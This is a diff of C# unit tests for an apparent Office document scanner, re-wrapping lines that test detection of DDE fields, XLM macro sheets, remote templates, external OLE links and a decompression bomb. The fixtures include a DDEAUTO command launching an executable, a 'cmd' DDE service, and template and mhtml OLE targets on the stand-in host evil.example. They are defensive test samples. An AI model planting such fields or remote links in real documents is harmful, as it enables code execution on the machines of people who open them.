@@ -12,7 +12,8 @@ public sealed class OfficeTests
     [Theory]
     // The examples of MS-OVBA §3.2: no compression, normal compression, most compression.
     [InlineData("0119B000616263646566676800696A6B6C6D6E6F70007172737475762E", "abcdefghijklmnopqrstuv.")]
-    [InlineData("012FB00023616161626364658200666768696A61686F2A020461617071727374303A757678797A003C03", "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa")]
+    [InlineData("012FB00023616161626364658200666768696A61686F2A020461617071727374303A757678797A003C03",
+        "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa")]
     [InlineData("0103B00261450 0", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")]
     public void Compressed_source_is_unpacked(string hex, string expected)
     {
@@ -23,20 +24,28 @@ public sealed class OfficeTests
     }
 
     [Theory]
-    [InlineData("word/document.xml", "<w:instrText> DDEAU</w:instrText><w:instrText>TO c:\\\\x.exe \"/c\"</w:instrText>", OfficeFinding.Dde)]
+    [InlineData("word/document.xml", "<w:instrText> DDEAU</w:instrText><w:instrText>TO c:\\\\x.exe \"/c\"</w:instrText>",
+        OfficeFinding.Dde)]
     [InlineData("word/document.xml", "<w:fldSimple w:instr=\" dde excel x \">", OfficeFinding.Dde)]
     [InlineData("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>", OfficeFinding.Dde)]
     [InlineData("xl/macrosheets/sheet1.xml", "<x/>", OfficeFinding.Xlm)]
-    [InlineData("word/_rels/settings.xml.rels", "<Relationship Type=\"http://s/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/>", OfficeFinding.RemoteTemplate)]
-    [InlineData("word/_rels/document.xml.rels", "<Relationship Type=\"http://s/oleObject\" Target=\"https://evil.example/x\" TargetMode=\"External\"/>", OfficeFinding.External)]
-    [InlineData("word/_rels/document.xml.rels", "<Relationship Type=\"http://s/oleObject\" Target=\"mhtml:https://evil.example/x!x\" TargetMode=\"External\"/>", OfficeFinding.RemoteTemplate)]
+    [InlineData("word/_rels/settings.xml.rels",
+        "<Relationship Type=\"http://s/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/>",
+        OfficeFinding.RemoteTemplate)]
+    [InlineData("word/_rels/document.xml.rels",
+        "<Relationship Type=\"http://s/oleObject\" Target=\"https://evil.example/x\" TargetMode=\"External\"/>", OfficeFinding.External)]
+    [InlineData("word/_rels/document.xml.rels",
+        "<Relationship Type=\"http://s/oleObject\" Target=\"mhtml:https://evil.example/x!x\" TargetMode=\"External\"/>",
+        OfficeFinding.RemoteTemplate)]
     public void Parts_of_archives_are_told(string name, string text, OfficeFinding finding) =>
         Assert.True(OfficeDocument.Look(Zip(name, Encoding.UTF8.GetBytes(text)), "docx", WorkBudget.Once()).Has(finding));
 
     [Theory]
     [InlineData("word/document.xml", "<w:instrText> HYPERLINK \"https://one.example/dde\" </w:instrText>")]
-    [InlineData("word/_rels/settings.xml.rels", "<Relationship Type=\"http://s/attachedTemplate\" Target=\"file:///C:/Users/ann/Normal.dotm\" TargetMode=\"External\"/>")]
-    [InlineData("word/_rels/document.xml.rels", "<Relationship Type=\"http://s/hyperlink\" Target=\"https://one.example/\" TargetMode=\"External\"/>")]
+    [InlineData("word/_rels/settings.xml.rels",
+        "<Relationship Type=\"http://s/attachedTemplate\" Target=\"file:///C:/Users/ann/Normal.dotm\" TargetMode=\"External\"/>")]
+    [InlineData("word/_rels/document.xml.rels",
+        "<Relationship Type=\"http://s/hyperlink\" Target=\"https://one.example/\" TargetMode=\"External\"/>")]
     public void Links_and_templates_on_the_authors_disk_are_ordinary(string name, string text) =>
         Assert.Empty(OfficeDocument.Look(Zip(name, Encoding.UTF8.GetBytes(text)), "docx", WorkBudget.Once()).Found);
 
@@ -60,7 +69,8 @@ public sealed class OfficeTests
     public void A_bomb_is_unpacked_no_further_than_the_bound()
     {
         using var packed = new MemoryStream();
-        using (var deflate = new ZLibStream(packed, CompressionLevel.SmallestSize, leaveOpen: true)) deflate.Write(new byte[20 * 1024 * 1024]);
+        using (var deflate = new ZLibStream(packed, CompressionLevel.SmallestSize, leaveOpen: true)) deflate.Write(
+            new byte[20 * 1024 * 1024]);
         packed.Position = 0;
         Assert.Equal(Unpacker.Most, Unpacker.Inflate(new ZLibStream(packed, CompressionMode.Decompress), WorkBudget.Once()).Octets.Length);
     }
